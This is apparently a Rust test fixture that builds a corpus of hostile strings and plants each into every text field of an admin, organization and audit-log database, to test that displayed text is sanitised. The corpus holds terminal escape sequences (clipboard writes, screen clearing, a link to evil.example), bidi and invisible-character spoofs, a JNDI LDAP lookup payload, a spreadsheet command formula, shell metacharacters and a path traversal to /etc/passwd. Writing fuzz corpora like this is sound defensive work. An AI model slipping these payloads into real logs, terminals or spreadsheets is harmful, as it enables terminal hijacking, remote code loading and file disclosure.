//! What somebody could store to mislead a person or a terminal.

use bson::{DateTime, Document, doc, oid::ObjectId};
use rusqlite::Connection;
use tenantry::org::is_hidden;

/// Strings that do something to a terminal, to an eye, to a program or to a memory. Each is told from
/// the others by nothing but itself.
pub fn hostile() -> Vec<String> {
    let mut corpus: Vec<String> = [
        // Clears the screen, moves, colours, inserts lines; answers as if typed.
        "\x1b[2J\x1b[H",
        "\x1b[31;5;7mred",
        "\x1b[10L\x1b[999D",
        "\x1b[6n\x1b[c\x1b[5n",
        "\x1b[?1049l\x1b[?25l\x1b[?2004l",
        "\x1bc",
        // Title, clipboard, links, palette, notifications, files.
        "\x1b]0;owned\x07",
        "\x1b]2;owned\x1b\\",
        "\x1b]52;c;b3duZWQ=\x07",
        "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]4;1;rgb:ff/00/00\x07\x1b]11;#000000\x07",
        "\x1b]9;owned\x07\x1b]777;notify;owned;owned\x07",
        "\x1b]1337;File=name=b3duZWQ=:AAAA\x07",
        // Device control, application commands, privacy messages; into tmux.
        "\x1bP+q544e\x1b\\",
        "\x1bPtmux;\x1b\x1b]52;c;b3duZWQ=\x07\x1b\\",
        "\x1b_Ga=T\x1b\\",
        "\x1b^owned\x1b\\",
        // The same with one character each.
        "\u{9b}31m\u{9d}0;owned\u{9c}\u{90}q\u{9c}\u{85}",
        // Over what was there, and away.
        "innocent\rmalicious",
        "innocent\x08\x08\x08\x08\x08\x08\x08\x08evil",
        "one\ntwo\r\nthree\x0b\x0cfour",
        "\0nul\0",
        "\x7f\x07\x0e\x0f\x05",
        // Turned round, hidden, and lookalikes of nothing.
        "\u{202e}gpj.exe\u{202c}",
        "\u{2066}\u{2067}\u{2068}\u{2069}",
        "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f\u{ad}",
        "\u{e0001}\u{e0041}\u{e007f}",
        "\u{2028}\u{2029}",
        "\u{e000}\u{f8ff}\u{10ffff}\u{fffe}",
        "\u{115f}\u{3164}\u{ffa0}\u{34f}\u{180e}",
        "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "日本語한국어",
        // For programs.
        "\"},{\"organizations\":[]}\\\"'`$(owned);|&<script>",
        "{{owned}} %s %n ${jndi:ldap://evil.example/x}",
        "$where",
        "=cmd|' /C calc'!A0",
        "-rf",
        "../../etc/passwd",
        "",
        " ",
    ]
    .map(str::to_owned)
    .to_vec();
    corpus.push(format!("a{}", "\u{301}".repeat(2_000)));
    corpus.push("\x1b]0;owned\x07".repeat(1_000));
    corpus
}

/// Ten megabytes.
pub fn huge() -> String {
    "\x1b]0;owned\x07 huge ".repeat(700_000)
}

/// Whether a text can be printed: nothing in it but what is seen, and ends of lines.
pub fn is_harmless(text: &str) -> bool {
    text.chars().all(|character| character == '\n' || !is_hidden(character))
}

/// Puts one string into every field of a file that has text.
pub fn plant(database: &Connection, number: i64, text: &str) {
    let (org, admin) = (ObjectId::new().bytes(), ObjectId::new().bytes());
    let one = "INSERT INTO admins (id, email, email_key, password, created_at, organization, \
               reset_code, reset_until) VALUES (?1, ?2, ?2, ?2, 0, ?3, ?2, 0)";
    assert_eq!(database.execute(one, (admin, text, org)), Ok(1));
    let one = "INSERT INTO organizations (id, name, name_key, collection, admin_id, admin_email, \
               email_key, created_at, database, revision, trashed_at, trash_days) \
               VALUES (?1, ?2, ?2, ?2, ?3, ?2, ?2, ?4, ?2, 0, ?5, 4000000)";
    // Every third is in the trash.
    let trashed = (number % 3 == 0).then_some(1_700_000_000_000_i64);
    assert_eq!(database.execute(one, (org, text, admin, number, trashed)), Ok(1));
    let one = "INSERT INTO collections (name, documents, bytes) VALUES (?, 0, 0)";
    assert_eq!(database.execute(one, [text]), Ok(1));
    // As readable as any, so that its texts are shown.
    let mut planted = entry(number, text);
    planted.insert("entry", ObjectId::from_bytes(org));
    planted.insert("organization_id", ObjectId::from_bytes(org));
    planted.insert("at", DateTime::from_millis(0));
    let bson = planted.to_vec().unwrap();
    let one = "INSERT INTO audit_log (number, entry, organization, name, at, bson) \
               VALUES (?1, ?2, ?2, ?3, 0, ?4)";
    assert_eq!(database.execute(one, (number, org, text, bson)), Ok(1));
}

/// An entry of the audit log with one string in every field.
pub fn entry(number: i64, text: &str) -> Document {
    doc! {
        "_id": number, "entry": ObjectId::new(), "at": text, "operator": text, "admin": text,
        "deed": text, "organization_id": text, "organization_name": text, "outcome": text,
        "reason": text, "changes": [{ "field": text, "from": text, "to": text }, text],
        "previous": text, "hash": text,
    }
}
